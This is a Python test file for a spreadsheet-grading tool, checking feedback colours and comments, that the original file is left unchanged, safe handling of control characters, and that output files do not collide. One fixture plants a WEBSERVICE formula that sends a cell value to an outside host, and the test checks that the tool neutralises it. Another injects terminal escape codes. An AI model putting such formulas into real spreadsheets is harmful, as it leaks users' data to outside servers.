"""What a student gets back: a copy in colours, with comments; their own file stays as it is, and nothing calls out."""

from collections.abc import Mapping
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from sheetnet import classroom
from sheetnet.cli import main
from tests.marking.conftest import Task
from tests.marking.submissions import hand_in, put


def test_the_copy_has_colours_and_comments_and_calls_nothing(tasks: Mapping[str, Task], tmp_path: Path) -> None:
    task = tasks["xor"]
    edit = put({"Calc!J6": "=H6-Data!F6", "Calc!J7": None, "Calc!A20": '=WEBSERVICE("http://example.org/"&J6)'})
    path = hand_in(task.exercise, tmp_path / "anna.xlsx", task.formulas, edit)
    before = path.read_bytes()
    (tmp_path / "back").mkdir()

    classroom.grade(path, str(task.key), output=str(tmp_path / "back" / "anna.xlsx"))

    book = load_workbook(tmp_path / "back" / "anna.xlsx")
    sheet = book["Calc"]
    colours = [sheet[cell].fill.fgColor.rgb[2:] for cell in ("J6", "J7", "J8", "K6")]
    assert colours == ["F8C9C2", "E6E6E6", "CFE8CF", "DCEAF7"]
    assert "the slope σ′ of the activation is left out" in sheet["J6"].comment.text
    assert sheet["J8"].comment is None
    assert sheet["A20"].data_type == "s"
    assert book.active.title == "Exercise"
    assert book["Exercise"]["B3"].value.startswith("25 of 30 points (83%). Green: right;")
    assert path.read_bytes() == before


def test_control_characters_of_a_cell_do_not_damage_the_copy(tasks: Mapping[str, Task], tmp_path: Path) -> None:
    task, copy = tasks["xor"], tmp_path / "back.xlsx"
    edit = put({"Calc!J6": "a_x001B_[31m", "Calc!J7": "_xFFFF_"})
    path = hand_in(task.exercise, tmp_path / "anna.xlsx", task.formulas, edit)

    classroom.grade(path, str(task.key), output=str(copy))

    with ZipFile(copy) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(package.read(name))
    assert "a\ufffd[31m" in load_workbook(copy)["Calc"]["J6"].comment.text


def test_the_copies_of_two_files_of_one_name_do_not_replace_each_other(
    tasks: Mapping[str, Task], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    key, paths = str(tasks["xor"].key), [tmp_path / "in" / name / "homework.xlsx" for name in ("anna", "ben")]
    for path in paths:
        path.parent.mkdir(parents=True)
        path.write_bytes(tasks["xor"].exercise.read_bytes())
    back = ["--key", key, "--feedback-dir", str(tmp_path / "back")]

    refused = main(["grade", *map(str, paths), *back])
    said = capsys.readouterr().err
    done = main(["grade", str(tmp_path / "in"), "--recursive", *back])

    assert (refused, done) == (2, 0)
    assert "would both be written to" in said
    assert [(tmp_path / "back" / name / "homework.xlsx").exists() for name in ("anna", "ben")] == [True, True]
